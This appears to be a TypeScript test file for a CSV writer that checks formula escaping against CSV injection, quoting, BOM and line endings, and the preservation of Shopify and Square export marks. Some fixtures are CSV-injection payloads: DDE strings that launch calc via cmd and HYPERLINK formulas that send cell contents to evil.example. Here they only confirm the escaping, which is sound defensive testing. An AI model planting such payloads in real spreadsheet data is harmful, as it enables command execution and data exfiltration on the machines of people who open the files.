import { readFileSync } from 'node:fs';
import * as path from 'node:path';
import fc from 'fast-check';
import Papa from 'papaparse';
import { resolveSettings, run, type Cell } from '../../../shared';
import { readCsv, readCsvFile } from '../../../cli/io/read-csv';
import { csvOf, csvPieces, FORMULA_TRIGGER, guardedInCsv, lossyInCsv, unparseCells, writeCsv } from '../../../cli/io/write-csv';
import { EMPTY, gridOf, num, planFor, tempDir, text } from '../helpers';

/** The CSV text of one cell in a one-row table, without BOM and line end. */
const field = (cell: Cell) => unparseCells([[cell]]).slice(1, -2);

describe('CSV formula neutralisation (OWASP CSV injection; PITFALLS C1)', () => {
  it.each<[string, Cell, string]>([
    ['=1+1', text('=1+1'), `"'=1+1"`],
    ['a trigger then a line break (papaparse default misses it)', text('=1+1\nnote'), `"'=1+1\nnote"`],
    ['a leading LF (papaparse default misses it)', text('\n=1+1'), `"'\n=1+1"`],
    ['a leading CR', text('\r=1+1'), `"'\r=1+1"`],
    ['@SUM(A1)', text('@SUM(A1)'), `"'@SUM(A1)"`],
    ['a leading TAB', text('\t=1'), `"'\t=1"`],
    ['an international phone', text('+86 138 0013 8000'), `"'+86 138 0013 8000"`],
    ['a negative number typed as text is no formula', text('-5'), '-5'],
    ['-1,200.50 typed as text', text('-1,200.50'), '"-1,200.50"'],
    ['a lone dash or two ("none")', text('--'), '--'],
    ['a minus before a formula', text('-1+cmd|"/c calc"!A0'), `"'-1+cmd|""/c calc""!A0"`],
    ['a minus before a name', text('-张伟'), `"'-张伟"`],
    ['a plus before digits: Excel would read a number and drop the +', text('+8613812345678'), `"'+8613812345678"`],
    ['a HYPERLINK that could leak data', text('=HYPERLINK("http://evil.example/?"&A1,"点击")'), `"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")"`],
    ['-5 as a number is a value, not a formula', num(-5), '-5'],
    ['a refund kept in pounds: -£200, a number Excel reads, no apostrophe', { kind: 'number', value: -200, format: '"£"#,##0' }, '-£200'],
    ['a credit in euros with a decimal comma', { kind: 'number', value: -1234.5, format: '[$-407]#,##0.00" €"' }, '"-1234,50 €"'],
    ['-£200 typed as text, the same', text('-£200'), '-£200'],
    ['a minus before a cell reference stays escaped (-E2, -RMB3000 are references)', text('-RMB3000'), `"'-RMB3000"`],
    ['an amount', num(12800.5), '12800.5'],
    ['a trigger later in the text', text('safe=safe'), 'safe=safe'],
    ['a full-width equals sign (no spreadsheet evaluates it)', text('＝1+1'), '＝1+1'],
    ['Chinese text', text('张伟'), '张伟'],
    ['an empty cell', EMPTY, ''],
    ['a comma needs quotes (RFC 4180)', text('北京, 海淀'), '"北京, 海淀"'],
    ['a quote is doubled (RFC 4180)', text('他说"好"'), '"他说""好"""'],
  ])('%s', (_, cell, expected) => {
    expect(field(cell)).toBe(expected);
  });

  it('writes a credit in euros grouped as typed in a semicolon file, a number Excel reads, no apostrophe', () => {
    const credit: Cell = { kind: 'number', value: -1234.5, format: '[$-407]#,##0.00" €"' };
    expect(unparseCells([[text('Müller GmbH'), credit]], ';')).toBe('\uFEFFMüller GmbH;-1.234,50 €\r\n');
  });

  it('escapes every trigger value in a column, not every other one (no RegExp lastIndex carry-over)', () => {
    expect(FORMULA_TRIGGER.flags).not.toContain('g');
    const csv = unparseCells([[text('=1')], [text('=2')], [text('=3')]]);
    expect(csv).toBe(`\uFEFF"'=1"\r\n"'=2"\r\n"'=3"\r\n`);
  });

  it('never lets a string start with a trigger unquoted or unescaped, but a negative number or dashes', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.string({ maxLength: 12 }), fc.stringMatching(/^-[\d,.%-]{0,6}$/)), { minLength: 1, maxLength: 5 }), (values) => {
        const csv = unparseCells([values.map(text)]);
        // What a spreadsheet sees: the fields as they are in the file.
        const parsed = Papa.parse<string[]>(csv.slice(1), { delimiter: ',' }).data[0] ?? [];
        parsed.forEach((value) => {
          if (/^-\p{Sc}?\d[\d,.]*(?:[.,]\d+)?(?:\s?\p{Sc})?%?$|^-+$/u.test(value)) return;
          expect(/^[=+\-@\t\r\n]/.test(value)).toBe(false);
        });
      }),
      { seed: 7, numRuns: 300 },
    );
  });

  it('reads back as written: our own apostrophe comes off again, so a rerun on our CSV changes nothing', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom('+86 139 1234 5678', '-重要客户', '=先打电话', '@王芳', '-5', '--')), { minLength: 3, maxLength: 3 }), (values) => {
        fc.pre(values.every((v) => !v.startsWith("'")) && values.some((v) => v !== ''));
        const csv = unparseCells([[text('姓名'), text('手机'), text('备注')], values.map((v) => (v === '' ? EMPTY : text(v)))]);
        const back = readCsv(new TextEncoder().encode(csv), 'x.csv').cells[1];
        expect(back.map((c) => (c.kind === 'text' ? c.value : ''))).toEqual(values);
      }),
      { seed: 11, numRuns: 300 },
    );
  });
});

describe('CSV file layout (PITFALLS C2)', () => {
  it('is the same text written in pieces of a few rows as in one piece (ragged rows, quotes, line breaks, triggers)', () => {
    const cell = fc.oneof(
      fc.constant(EMPTY),
      fc.string({ maxLength: 8 }).map(text),
      fc.constantFrom('北京, 海淀', '他说"好"', '=1+1', '第一行\n第二行', '+86 138 0013 8000').map(text),
      fc.double({ noNaN: true }).map(num),
    );
    fc.assert(
      fc.property(fc.array(fc.array(cell, { maxLength: 4 }), { maxLength: 12 }), fc.integer({ min: 1, max: 5 }), (rows, per) => {
        const whole = [...csvPieces(rows, Number.MAX_SAFE_INTEGER)];
        expect(whole.length).toBeLessThanOrEqual(2);
        expect([...csvPieces(rows, per)].join('')).toBe(whole.join(''));
      }),
      { seed: 11, numRuns: 300 },
    );
  });

  it('starts with a UTF-8 BOM and ends lines with CRLF', () => {
    const csv = unparseCells([[text('姓名'), text('手机')], [text('张伟'), text('138 1234 5678')]]);
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(csv).toBe('\uFEFF姓名,手机\r\n张伟,138 1234 5678\r\n');
  });

  it('pads ragged rows to a rectangle and keeps line breaks inside quotes', () => {
    expect(unparseCells([[text('客户名单')], [text('地址'), text('备注')], [text('北京市\n海淀区')]])).toBe(
      '\uFEFF客户名单,\r\n地址,备注\r\n"北京市\n海淀区",\r\n',
    );
  });

  it.each<[string, Cell, string]>([
    ['hh:mm', num(9.5 / 24, 'hh:mm'), '09:30'],
    ['h:mm:ss', num((14 * 3600 + 5 * 60 + 7) / 86400, 'h:mm:ss'), '14:05:07'],
    ['h:mm AM/PM keeps the 24-hour time a spreadsheet reads back', num(18 / 24, 'h:mm AM/PM'), '18:00'],
    ['a number with an ordinary format stays the number', num(0.15, '0.00%'), '0.15'],
  ])('writes a time of day as the time (%s)', (_, cell, expected) => {
    expect(field(cell)).toBe(expected);
  });

  it('writes dates as ISO, booleans and errors as the sheet shows them', () => {
    expect(unparseCells([[{ kind: 'date', value: '2024-03-05' }, { kind: 'boolean', value: true }, { kind: 'error', value: '#N/A' }]]))
      .toBe('\uFEFF2024-03-05,TRUE,#N/A\r\n');
  });

  it('writes a date with its time as Excel reads one back from a CSV (a space, not the ISO T)', () => {
    expect(unparseCells([[{ kind: 'date', value: '2024-03-05T10:22:13' }]])).toBe('\uFEFF2024-03-05 10:22:13\r\n');
  });
});

describe('csvOf: the cleaned sheet', () => {
  const grid = gridOf([
    ['2024 客户名单', '', ''],
    ['姓名', '手机', '备注'],
    ['张伟', '13812345678', '=HYPERLINK("x")'],
    ['李娜', '+86 139 1234 5678', ''],
  ]);
  const plan = planFor(grid, {
    headerRow: 2,
    fields: ['name', 'mobile', 'notes'],
    edits: [
      { sheetRow: 3, col: 1, field: 'mobile', before: text('13812345678'), after: text('138 1234 5678'), reason: 'fix.generic' },
      { sheetRow: 4, col: 1, field: 'mobile', before: text('+86 139 1234 5678'), after: text('139 1234 5678'), reason: 'fix.generic' },
    ],
    addedColumns: [{ id: 'issues', header: '整理问题', write: 'text', values: [EMPTY, text('-手机号待核实')] }],
  });

  it('applies the edits, appends the added column under the header row and keeps the title row', () => {
    expect(csvOf(grid, plan)).toBe(
      '\uFEFF' +
      '2024 客户名单,,,\r\n' +
      '姓名,手机,备注,整理问题\r\n' +
      `张伟,138 1234 5678,"'=HYPERLINK(""x"")",\r\n` +
      `李娜,139 1234 5678,,"'-手机号待核实"\r\n`,
    );
  });

  it('reads back as the same sheet, the apostrophes that neutralise formulas taken off again, and is written to disk', async () => {
    const { dir, cleanup } = tempDir();
    try {
      const file = path.join(dir, 'out.csv');
      // Two values carry the guard's apostrophe: the formula text and the issue text starting with a dash.
      expect(await writeCsv(file, grid, plan)).toEqual({ lossy: 0, marked: 0, guarded: 2, guardedIn: new Map([[3, 1], [4, 1]]), stale: [], staleTotals: [] });
      const back = readCsv(readFileSync(file), 'out.csv');
      expect(readFileSync(file, 'utf8')).toContain(`"'=HYPERLINK(""x"")"`);
      expect(back.cells[2]).toEqual([text('张伟'), text('138 1234 5678'), text('=HYPERLINK("x")'), EMPTY]);
      expect(back.cells[3]).toEqual([text('李娜'), text('139 1234 5678'), EMPTY, text('-手机号待核实')]);
      expect(back.cells).toHaveLength(4);
    } finally {
      cleanup();
    }
  });
});

describe('guardedInCsv: values written with the formula guard\'s apostrophe', () => {
  it('counts text that starts with = + - @ and leaves numbers, negative amounts typed as text and dashes alone', () => {
    const rows = [
      [text('+44 20 7946 0958'), text('=1+1'), text('@张伟'), text('-50'), text('--'), num(-5), text('张伟'), EMPTY],
    ];
    expect(guardedInCsv(rows)).toBe(3);
  });
});

describe('lossyInCsv: values a spreadsheet would change on opening the CSV (PITFALLS A5)', () => {
  const grid = gridOf([
    ['客户编号', '身份证号', '手机', '金额'],
    ['00123', '110101199003071234', '13812345678', '0012'],
    ['A-001', '11010119900307123X', '0755-88880000', '05'],
  ]);
  const plan = planFor(grid, { writes: ['text', 'text', 'text', 'number'] });

  it('counts leading-zero numbers and over-15-digit numbers in text columns only', () => {
    // 00123 and the all-digit ID count; an ID ending in X, a phone with a dash and number columns do not.
    expect(lossyInCsv(grid, plan)).toBe(2);
  });

  it('is what writeCsv returns', async () => {
    const { dir, cleanup } = tempDir();
    try {
      expect(await writeCsv(path.join(dir, 'x.csv'), grid, plan)).toEqual({ lossy: 2, marked: 0, guarded: 0, stale: [], staleTotals: [] });
    } finally {
      cleanup();
    }
  });
});

describe('Shopify\'s text marks (\'02134, \'6253817348274) in a CSV output', () => {
  // shopify_customers_export.csv (h40): Shopify writes an apostrophe before its IDs, ZIP codes and
  // phones so that Excel keeps them as typed.
  const input = [
    'Customer ID,First Name,Last Name,Email,Default Address City,Default Address Province Code,Default Address Country Code,Default Address Zip,Phone,Total Spent',
    "'6253817348274,Emily,Carter,emily.carter@gmail.com,Boston,MA,US,'02134,'+16175550142,1234.50",
    "'6253817512114,Noah,Davis,noah.davis@gmail.com,Hartford,CT,US,'06103,'+18605550111,12450.75",
    "'6253817577650,Olivia,Brown,olivia.brown@icloud.com,London,,GB,NW1 6XE,'+44 7700 900123,52.00",
    ',Ana,Souza,ana@souzafilhos.com.br,Austin,TX,US,00501,,10.00',
  ].join('\r\n');
  const { grid, marks } = readCsvFile(Buffer.from(input, 'utf8'), 'customers_export.csv');
  const settings = resolveSettings({ phone: { defaultRegion: 'US' } });
  if (!settings.ok) throw new Error('settings');
  const out = run(grid, { settings: settings.settings, today: '2026-12-02' });
  if (!out.ok) throw new Error(out.problem.code);
  const plan = out.plan;
  const lines = csvOf(grid, plan, marks).slice(1).split('\r\n');

  it('writes a value back behind the mark it had, so the spreadsheet opening the file keeps its zeros and digits', () => {
    expect(lines[1].split(',')[0]).toBe("'6253817348274");
    expect(lines[1]).toContain(",'02134,");
    expect(lines[2]).toContain(",'06103,");
  });

  it('adds none where the input had none (00501, NW1 6XE) or where the value is no plain number any more (a formatted phone)', () => {
    expect(lines[4]).toContain(',00501,');
    expect(lines[3]).toContain(',NW1 6XE,');
    // The sheet names two countries, so the US phones keep the +1 they were typed with (behind the
    // formula guard, as every value starting with + is), spaced as libphonenumber writes it: no plain
    // number any more, so no Shopify mark of their own.
    expect(lines[1]).toContain("'+1 617 555 0142");
    expect(lines[1]).not.toContain("''");
  });

  it('takes the mark for no fix of the value: the cleaning leaves the IDs and ZIP codes as they were', () => {
    const touched = new Set(plan.edits.map((e) => plan.columns.find((c) => c.col === e.col)!.header));
    expect(touched.has('Customer ID') || touched.has('Default Address Zip')).toBe(false);
    expect(touched.has('Phone')).toBe(true);
  });

  // Three IDs and two ZIP codes get their mark back; 00501 had none and still loses its zeros; the three
  // phones (two US, one UK, each with its country code) keep their + behind the formula guard.
  it('counts the values written with their mark, and no longer counts them as losing digits', async () => {
    const { dir, cleanup } = tempDir();
    try {
      const file = path.join(dir, 'out.csv');
      expect(await writeCsv(file, grid, plan, undefined, undefined, marks)).toMatchObject({ lossy: 1, marked: 5, guarded: 3, stale: [], staleTotals: [] });
      const again = readCsvFile(readFileSync(file), 'out.csv');
      expect([...again.marks]).toEqual([...marks]);
    } finally {
      cleanup();
    }
  });
});

describe('="…" wrapping (Square\'s ="01002", bank exports) in a CSV output', () => {
  // quirks_us.csv / square_customers.csv (h49): the ZIP codes and a phone are written as a formula of
  // their text, so that Excel keeps their zeros. "Shipping Zip" is read by no field: kept as it is.
  const input = [
    'First Name,Last Name,Email,Phone,Billing Zip,Shipping Zip,Total Spent',
    'Cara,Fox,cara@x.com,"=""6175550127""","=""01002""","=""01002""",85.00',
    'Dan,Ruiz,dan@x.com,"=""(617) 555-0199""","=""02134""",02134,12.00',
    'Eve,Sato,eve@x.com,,"=""NW1 6XE""",,10.00',
  ].join('\r\n');
  const { grid, marks } = readCsvFile(Buffer.from(input, 'utf8'), 'quirks_us.csv');
  const settings = resolveSettings({ phone: { defaultRegion: 'US' } });
  if (!settings.ok) throw new Error('settings');
  const out = run(grid, { settings: settings.settings, today: '2025-06-10' });
  if (!out.ok) throw new Error(out.problem.code);
  const plan = out.plan;
  const lines = csvOf(grid, plan, marks).slice(1).split('\r\n');

  it('writes a value back wrapped as the file had it, where a spreadsheet would still read it as a number', () => {
    expect(lines[1]).toContain(',"=""01002""","=""01002""",');
    expect(lines[2]).toContain(',"=""02134""",02134,');
  });

  it('wraps nothing the file did not, nor what is no plain number any more', () => {
    // A postcode with letters is text to any spreadsheet; a phone cleaned to 617-555-0199 or +1 … is
    // no plain number.
    expect(lines[3]).toContain(',NW1 6XE,');
    expect(lines[2]).not.toContain('"=""(617)');
  });

  it('counts the values written wrapped among those kept as typed, and no longer as losing digits', async () => {
    const { dir, cleanup } = tempDir();
    try {
      const file = path.join(dir, 'out.csv');
      // 02134 in Dan's Shipping Zip had no wrapping, and still loses its zero.
      expect(await writeCsv(file, grid, plan, undefined, undefined, marks)).toMatchObject({ lossy: 1 });
      // A rerun on the output reads the same values and the same wrapping.
      const again = readCsvFile(readFileSync(file), 'out.csv');
      const zips = again.grid.cells.slice(1).map((r) => r.slice(4, 6).map((c) => (c.kind === 'text' ? c.value : '')));
      expect(zips).toEqual([['01002', '01002'], ['02134', '02134'], ['NW1 6XE', '']]);
      expect(again.marks.get('2:5')).toBe('formula');
      expect(again.marks.get('3:5')).toBe('formula');
    } finally {
      cleanup();
    }
  });

  it('writes a formula of its own plain text only: the guard still stops every other formula', () => {
    expect(field({ kind: 'text', value: '01002', formula: '="01002"' })).toBe('"=""01002"""');
    expect(field(text('="01002"'))).toBe(`"'=""01002"""`);
    expect(field({ kind: 'text', value: 'x', formula: '=HYPERLINK("http://evil.example/","x")' })).toBe('x');
  });
});

describe('a CSV written for re-import (output.csvTextMark "none")', () => {
  const none = (cell: Cell) => unparseCells([[cell]], ',', 'none').slice(1, -2);

  it.each<[string, Cell, string]>([
    ['an international phone is written as cleaned', text('+52 55 1234 5678'), '+52 55 1234 5678'],
    ["Google's birthday without a year", text('--12-08'), '--12-08'],
    ['a note starting with a dash', text('- called back, wants a quote'), '"- called back, wants a quote"'],
    ['a formula keeps its mark: no importer or spreadsheet must run it', text('=HYPERLINK("http://evil.example/?"&A1)'), `"'=HYPERLINK(""http://evil.example/?""&A1)"`],
    ['an @ formula keeps its mark', text('@SUM(A1:A9)'), `"'@SUM(A1:A9)"`],
    ['a line break before a formula keeps its mark', text('\n=1+1'), `"'\n=1+1"`],
    ['a phone with its area code in brackets is written as cleaned', text('+1 (971) 555-0133'), '+1 (971) 555-0133'],
    ['a plus that calls a function keeps its mark', text('+SUM(A1:A9)'), `"'+SUM(A1:A9)"`],
    ['a minus that starts another program keeps its mark', text("-2+3+cmd|' /C calc'!A0"), `"'-2+3+cmd|' /C calc'!A0"`],
    ['a text formula of its own text is written as its text', { kind: 'text', value: '01002', formula: '="01002"' }, '01002'],
  ])('%s', (_, cell, expected) => {
    expect(none(cell)).toBe(expected);
  });

  it('counts only the values it still marks', () => {
    const rows = [[text('+44 7700 900123'), text('=1+1'), text('@王芳'), text('-重要客户')]];
    expect(guardedInCsv(rows, 'none')).toBe(2);
    expect(guardedInCsv(rows)).toBe(4);
  });

  it('writes the digits an export marked without its mark', () => {
    const grid = gridOf([['Customer ID', 'Zip'], ['7012345678060', '02134']]);
    const plan = planFor(grid);
    const marks = new Map([['2:1', 'apostrophe' as const], ['2:2', 'apostrophe' as const]]);
    expect(csvOf(grid, plan, marks).split('\r\n')[1]).toBe("'7012345678060,'02134");
    expect(csvOf(grid, plan, marks, 'none').split('\r\n')[1]).toBe('7012345678060,02134');
  });
});
